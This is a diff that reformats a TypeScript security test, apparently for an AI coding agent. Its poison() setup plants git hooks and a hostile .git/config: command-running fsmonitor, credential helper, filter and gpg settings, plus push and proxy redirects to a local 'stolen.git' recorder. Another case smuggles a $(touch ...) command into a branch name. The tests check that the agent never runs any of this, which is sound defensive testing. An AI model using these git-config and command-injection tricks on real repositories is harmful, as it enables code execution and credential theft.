@@ -6,8 +6,18 @@ import { fill, inputOf } from '../support/hostile/cases.ts';
 import { Scene, shell, type Played } from '../support/hostile/scene.ts';
 
 const hooks = [
-  'pre-push', 'pre-commit', 'reference-transaction', 'post-index-change', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-checkout', 'push-to-checkout',
-  'sendemail-validate', 'pre-auto-gc', 'fsmonitor-watchman',
+  'pre-push',
+  'pre-commit',
+  'reference-transaction',
+  'post-index-change',
+  'prepare-commit-msg',
+  'commit-msg',
+  'post-commit',
+  'post-checkout',
+  'push-to-checkout',
+  'sendemail-validate',
+  'pre-auto-gc',
+  'fsmonitor-watchman',
 ];
 
 /** Puts everything into the git directory of the workspace that git would run, each with a marker of its own. */
@@ -24,14 +34,41 @@ function poison(scene: Scene): void {
     hook(join(workspace, '.evil', name), 'A084');
   }
   hook(join(workspace, '.git/ap'), 'A083');
-  appendFileSync(join(workspace, '.git/config'), [
-    '[core]', `\tfsmonitor = "touch ${marker('A041')}; false"`, `\tsshCommand = "touch ${marker('A041')}"`, `\teditor = "touch ${marker('A041')}"`, '\thooksPath = .evil', `\taskPass = ${join(workspace, '.git/ap')}`,
-    `[url "http://${recorder.address}/"]`, `\tinsteadOf = ${scene.world.github.serverUrl}/`, `\tpushInsteadOf = ${scene.world.github.serverUrl}/`,
-    '[http]', `\tproxy = http://${recorder.address}`, '[remote "origin"]', `\tpushurl = http://${recorder.address}/stolen.git`, `\tuploadpack = touch ${marker('A041')}`,
-    '[filter "x"]', `\tclean = touch ${marker('A082')}; cat`, `\tsmudge = touch ${marker('A082')}; cat`, '\trequired = true',
-    '[diff "x"]', `\ttextconv = touch ${marker('A082')}; cat`, `\tcommand = touch ${marker('A082')}`, '[merge "x"]', `\tdriver = touch ${marker('A082')}`,
-    '[credential]', `\thelper = "!touch ${marker('A083')}; cat"`, '[gpg]', `\tprogram = ${join(workspace, '.git/ap')}`, '[commit]', '\tgpgSign = true', '',
-  ].join('\n'));
+  appendFileSync(
+    join(workspace, '.git/config'),
+    [
+      '[core]',
+      `\tfsmonitor = "touch ${marker('A041')}; false"`,
+      `\tsshCommand = "touch ${marker('A041')}"`,
+      `\teditor = "touch ${marker('A041')}"`,
+      '\thooksPath = .evil',
+      `\taskPass = ${join(workspace, '.git/ap')}`,
+      `[url "http://${recorder.address}/"]`,
+      `\tinsteadOf = ${scene.world.github.serverUrl}/`,
+      `\tpushInsteadOf = ${scene.world.github.serverUrl}/`,
+      '[http]',
+      `\tproxy = http://${recorder.address}`,
+      '[remote "origin"]',
+      `\tpushurl = http://${recorder.address}/stolen.git`,
+      `\tuploadpack = touch ${marker('A041')}`,
+      '[filter "x"]',
+      `\tclean = touch ${marker('A082')}; cat`,
+      `\tsmudge = touch ${marker('A082')}; cat`,
+      '\trequired = true',
+      '[diff "x"]',
+      `\ttextconv = touch ${marker('A082')}; cat`,
+      `\tcommand = touch ${marker('A082')}`,
+      '[merge "x"]',
+      `\tdriver = touch ${marker('A082')}`,
+      '[credential]',
+      `\thelper = "!touch ${marker('A083')}; cat"`,
+      '[gpg]',
+      `\tprogram = ${join(workspace, '.git/ap')}`,
+      '[commit]',
+      '\tgpgSign = true',
+      '',
+    ].join('\n'),
+  );
   mkdirSync(join(workspace, '.git/info'), { recursive: true });
   writeFileSync(join(workspace, '.git/info/attributes'), '* filter=x diff=x merge=x\n');
   writeFileSync(join(workspace, '.gitattributes'), '* filter=x diff=x merge=x\n');
@@ -46,10 +83,13 @@ describe.each([{ when: 'before the turn' }, { when: 'after the last tool' }])('a
     scene.checkOut();
     const before = when === 'before the turn';
     if (before) poison(scene);
-    played = await scene.play([
-      { id: 'edit', name: 'write_file', args: { path: 'src/new.js', content: 'export const answer = 42;\n' } },
-      shell('git', 'git status --short; git diff; git log --oneline', 'thrown'),
-    ], { ...(!before && { afterTools: () => poison(scene) }) });
+    played = await scene.play(
+      [
+        { id: 'edit', name: 'write_file', args: { path: 'src/new.js', content: 'export const answer = 42;\n' } },
+        shell('git', 'git status --short; git diff; git log --oneline', 'thrown'),
+      ],
+      { ...(!before && { afterTools: () => poison(scene) }) },
+    );
   });
   afterAll(() => scene[Symbol.asyncDispose]());
 
@@ -88,7 +128,9 @@ describe.each([{ when: 'before the turn' }, { when: 'after the last tool' }])('a
 
 describe('names from strangers', () => {
   jailed('R8 A044: neither the title nor the model chooses the branch, and no shell reads either', async () => {
-    await using scene = await Scene.create((places) => ({ issue: { title: fill(inputOf<string>('A044', 'payload.issue.title'), places) } }));
+    await using scene = await Scene.create((places) => ({
+      issue: { title: fill(inputOf<string>('A044', 'payload.issue.title'), places) },
+    }));
     const { run, results } = await scene.play([
       { id: 'finish', name: 'finish', args: { branch: `fix/$(touch ${scene.places('A044')['PWNED']})` } },
       { id: 'edit', name: 'write_file', args: { path: 'a.txt', content: 'x' } },
